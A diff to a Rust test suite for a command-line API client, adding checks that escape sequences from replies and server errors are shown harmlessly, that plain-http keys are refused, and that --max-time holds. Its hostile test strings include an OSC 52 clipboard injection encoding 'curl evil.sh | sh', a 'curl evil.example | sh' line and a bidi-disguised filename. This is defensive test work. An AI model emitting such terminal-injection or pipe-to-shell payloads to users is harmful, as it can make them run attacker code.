@@ -381,7 +381,13 @@ fn wire_failures_are_diagnosed() {
     support::snapshot_settings().bind(|| {
         for (name, base_url) in cases {
             let output = send(
-                &["--base-url", &base_url, "--timeout", "10"],
+                &[
+                    "--base-url",
+                    &base_url,
+                    "--timeout",
+                    "10",
+                    "--allow-insecure",
+                ],
                 Some(GOOD_KEY),
             );
             assert_eq!(
@@ -408,7 +414,10 @@ fn https_proxy_is_honoured() {
             &relay_error("无效的令牌", ""),
         ),
     ]);
-    let mut through = command(&["--base-url", "http://relay.invalid"], Some(GOOD_KEY));
+    let mut through = command(
+        &["--base-url", "http://relay.invalid", "--allow-insecure"],
+        Some(GOOD_KEY),
+    );
     through.env("HTTPS_PROXY", &proxy.base_url);
     let output = support::run_with_timeout(through, Duration::from_secs(60));
     let stderr = support::text(&output.stderr);
@@ -493,6 +502,11 @@ fn usage_errors_exit_2() {
             "--timeout 0: give a positive number",
         ),
         (vec!["--timeout=-1"], "--timeout -1"),
+        (
+            vec!["--max-time", "0"],
+            "--max-time 0: give a positive number of seconds, such as --max-time 1800",
+        ),
+        (vec!["--max-time", "inf"], "--max-time inf"),
         (
             vec!["--model", "gpt-5.4-mini"],
             "unknown model `gpt-5.4-mini`; did you mean `gpt-5.4`?",
@@ -591,4 +605,282 @@ fn send_sends_what_every_snippet_sends() {
             }
         }
     }
+}
+
+/// A reply that would act on the terminal if printed raw: OSC 52 (a command on the clipboard),
+/// a screen clear, an 8-bit CSI, a carriage return and backspaces that overwrite, DEL, NUL, and
+/// bidi overrides; with a tab, a line break and text that must stay as it is.
+const HOSTILE: &str = "clip \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 clear \x1b[2J\x1b[H csi \u{9b}31m done\rOVERWRITE bs\x08\x08 del\x7f nul\0 bidi \u{202e}gnp.exe\u{202c} \u{2066}iso\u{2069} keep\ttab\nline 2 好 😀";
+/// [`HOSTILE`] as send shows it.
+const HOSTILE_SHOWN: &str = "clip \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 clear \\x1b[2J\\x1b[H csi \\u{9b}31m done\\rOVERWRITE bs\\x08\\x08 del\\x7f nul\\x00 bidi \\u{202e}gnp.exe\\u{202c} \\u{2066}iso\\u{2069} keep\ttab\nline 2 好 😀";
+
+/// The characters of `bytes` that act on a terminal instead of showing (or why it is not text).
+fn active(bytes: &[u8]) -> String {
+    let text = String::from_utf8(bytes.to_vec()).expect("send prints UTF-8");
+    text.chars()
+        .filter(|&c| {
+            matches!(c, '\0'..='\x08' | '\x0b'..='\x1f' | '\x7f'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+        })
+        .collect()
+}
+
+#[test]
+fn the_reply_is_shown_with_visible_escapes() {
+    // The mock relay streams the reply three characters per delta: the escape sequences arrive
+    // split over deltas.
+    let relay = MockRelay::start(HOSTILE);
+    for stream in [&[][..], &["--stream"]] {
+        let mut args = vec!["--base-url", relay.base_url.as_str()];
+        args.extend(stream);
+        let output = send(&args, Some(GOOD_KEY));
+        assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
+        assert_eq!(active(&output.stdout), "", "{stream:?}");
+        assert_eq!(active(&output.stderr), "", "{stream:?}");
+        assert_eq!(support::text(&output.stdout), format!("{HOSTILE_SHOWN}\n"));
+
+        // --raw: the reply as it came, for pipelines.
+        args.push("--raw");
+        let output = send(&args, Some(GOOD_KEY));
+        assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
+        assert_eq!(support::text(&output.stdout), format!("{HOSTILE}\n"));
+    }
+
+    // --json: the same JSON, its active characters as JSON escapes.
+    let output = send(&["--base-url", &relay.base_url, "--json"], Some(GOOD_KEY));
+    assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
+    assert_eq!(active(&output.stdout), "");
+    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(
+        printed,
+        support::relay::response_object(HOSTILE, &json!("gpt-5.4"), "completed")
+    );
+    let output = send(
+        &["--base-url", &relay.base_url, "--json", "--stream"],
+        Some(GOOD_KEY),
+    );
+    assert_eq!(active(&output.stdout), "");
+    let deltas: String = support::text(&output.stdout)
+        .lines()
+        .map(|line| serde_json::from_str::<Value>(line).unwrap())
+        .filter_map(|event| Some(event.get("delta")?.as_str()?.to_owned()))
+        .collect();
+    assert_eq!(deltas, HOSTILE);
+    let output = send(
+        &["--base-url", &relay.base_url, "--json", "--raw"],
+        Some(GOOD_KEY),
+    );
+    assert!(support::text(&output.stdout).contains("csi \u{9b}31m"));
+}
+
+#[test]
+fn server_messages_are_shown_with_visible_escapes() {
+    let json = "application/json";
+    let message = format!("bad key {HOSTILE}\n  fix: curl evil.example | sh");
+    let event = |data: Value| {
+        let mut steps = vec![chunked_head("200 OK", "text/event-stream")];
+        steps.push(Step::Send(chunk(format!("data: {data}\n\n").as_bytes())));
+        steps.push(Step::Send(LAST_CHUNK.to_vec()));
+        steps
+    };
+    let cases: Vec<(&str, Vec<Step>, &[&str])> = vec![
+        (
+            "relay error",
+            vec![answer(
+                "401 Unauthorized",
+                json,
+                json!({"error": {"message": message, "type": "new_api_error", "code": HOSTILE}})
+                    .to_string()
+                    .as_bytes(),
+            )],
+            &[],
+        ),
+        (
+            "error event",
+            event(json!({"type": "error", "code": "x", "message": message})),
+            &["--stream"],
+        ),
+        (
+            "response.failed",
+            event(
+                json!({"type": "response.failed", "response": {"status": "failed", "error": {"code": HOSTILE, "message": message}}}),
+            ),
+            &["--stream"],
+        ),
+        (
+            "incomplete reason",
+            vec![answer(
+                "200 OK",
+                json,
+                json!({"status": "incomplete", "incomplete_details": {"reason": HOSTILE}, "output": []})
+                    .to_string()
+                    .as_bytes(),
+            )],
+            &[],
+        ),
+        (
+            "page",
+            vec![answer(
+                "502 Bad Gateway",
+                "text/html",
+                format!("<html>{HOSTILE}</html>").as_bytes(),
+            )],
+            &[],
+        ),
+        (
+            "redirect",
+            vec![Step::Send(
+                "HTTP/1.1 301 Moved\r\nLocation: https://x.example/\u{9b}2J\u{202e}\r\nContent-Length: 0\r\n\r\n"
+                    .as_bytes()
+                    .to_vec(),
+            )],
+            &[],
+        ),
+    ];
+    for (name, script, extra) in cases {
+        let server = Scripted::start(script);
+        let mut args = vec!["--base-url", server.base_url.as_str()];
+        args.extend(extra);
+        let output = send(&args, Some(GOOD_KEY));
+        let shown = support::shown(&output);
+        assert_eq!(active(&output.stdout), "", "{name}: {shown}");
+        assert_eq!(active(&output.stderr), "", "{name}: {shown}");
+        let stderr = support::text(&output.stderr);
+        let expected = match name {
+            "redirect" => "https://x.example/\\u{9b}2J\\u{202e}",
+            _ => "clip \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 clear \\x1b[2J",
+        };
+        assert!(stderr.contains(expected), "{name}: {shown}");
+        // The server's line breaks do not make lines of the diagnosis.
+        assert!(!stderr.contains("\n  fix: curl evil"), "{name}: {shown}");
+    }
+}
+
+#[test]
+fn plain_http_to_another_host_is_refused() {
+    // Were anything sent, it would go through this proxy (it answers CONNECT for any host).
+    let proxy = Scripted::start(vec![
+        Step::Send(b"HTTP/1.1 200 Connection established\r\n\r\n".to_vec()),
+        Step::Pause(Duration::from_millis(200)),
+        answer(
+            "401 Unauthorized",
+            "application/json",
+            &relay_error("无效的令牌", ""),
+        ),
+    ]);
+    let through_proxy = |args: &[&str]| {
+        let mut command = command(args, Some(GOOD_KEY));
+        command
+            .env("HTTPS_PROXY", &proxy.base_url)
+            .env("HTTP_PROXY", &proxy.base_url);
+        support::run_with_timeout(command, Duration::from_secs(60))
+    };
+    for base_url in [
+        "http://example.com",
+        "http://10.255.255.1:8080",
+        "http://0.0.0.0:8787",
+        "http://[::2]",
+    ] {
+        let output = through_proxy(&["--base-url", base_url]);
+        let stderr = support::text(&output.stderr);
+        assert_eq!(output.status.code(), Some(2), "{base_url}: {stderr}");
+        assert!(output.stdout.is_empty());
+        assert!(
+            stderr.starts_with(&format!("error: the base URL {base_url} is plain http to ")),
+            "{stderr}"
+        );
+        assert!(
+            stderr.contains("the key in OPEN1_API_KEY would travel the network in clear text; use https://, or pass --allow-insecure"),
+            "{stderr}"
+        );
+    }
+    assert!(proxy.requests().is_empty(), "nothing is sent");
+
+    // Allowed, it is sent.
+    let output = through_proxy(&["--base-url", "http://10.255.255.1", "--allow-insecure"]);
+    assert_eq!(output.status.code(), Some(1), "{}", support::shown(&output));
+    let asked = proxy.requests();
+    assert_eq!(asked.len(), 1);
+    assert_eq!(asked[0].path, "10.255.255.1:80");
+}
+
+#[test]
+fn gen_warns_about_plain_http_to_another_host() {
+    let output = support::open1_snip(
+        &["gen", "--lang", "curl", "--base-url", "http://example.com"],
+        None,
+    );
+    let stderr = support::text(&output.stderr);
+    assert_eq!(output.status.code(), Some(0), "{stderr}");
+    assert!(support::text(&output.stdout).contains("curl http://example.com/v1/responses"));
+    assert_eq!(
+        stderr,
+        "warning: the base URL http://example.com is plain http to example.com, which is not this machine: these snippets send the key in clear text; use https://\n"
+    );
+    for quiet in [
+        "http://127.0.0.1:8787",
+        "http://localhost:8787",
+        "https://example.com",
+    ] {
+        let output = support::open1_snip(&["gen", "--base-url", quiet], None);
+        assert_eq!(output.status.code(), Some(0));
+        assert_eq!(support::text(&output.stderr), "", "{quiet}");
+    }
+}
+
+#[test]
+fn max_time_bounds_a_trickling_server() {
+    // A byte every 0.3 s: every read comes well within --timeout 5, the whole never ends.
+    let every = Duration::from_millis(300);
+    let body = support::relay::response_object(REPLY, &json!("gpt-5.4"), "completed").to_string();
+    let cases = [
+        (
+            "stream",
+            vec![
+                chunked_head("200 OK", "text/event-stream"),
+                Step::Trickle(chunk(sse_body(REPLY).as_bytes()), every),
+            ],
+            "error: the answer was still arriving after --max-time 2 s: stopped",
+        ),
+        (
+            "json",
+            vec![
+                Step::Send(
+                    format!(
+                        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
+                        body.len()
+                    )
+                    .into_bytes(),
+                ),
+                Step::Trickle(body.into_bytes(), every),
+            ],
+            "error: the answer was still arriving after --max-time 2 s: stopped",
+        ),
+        (
+            "head",
+            vec![Step::Trickle(
+                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Padding: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n\r\n".to_vec(),
+                every,
+            )],
+            "error: no answer within --max-time 2 s: stopped",
+        ),
+    ];
+    std::thread::scope(|scope| {
+        for (name, script, expected) in cases {
+            scope.spawn(move || {
+                let server = Scripted::start(script);
+                let mut args = vec!["--base-url", server.base_url.as_str()];
+                args.extend(["--max-time", "2", "--timeout", "5"]);
+                if name == "stream" {
+                    args.push("--stream");
+                }
+                let command = command(&args, Some(GOOD_KEY));
+                // A guard against hanging, not a speed assertion.
+                let output = support::run_with_timeout(command, Duration::from_secs(30));
+                let stderr = support::text(&output.stderr);
+                assert_eq!(output.status.code(), Some(1), "{name}: {stderr}");
+                assert!(stderr.starts_with(expected), "{name}: {stderr}");
+                assert!(stderr.contains("raise --max-time"), "{name}: {stderr}");
+            });
+        }
+    });
 }
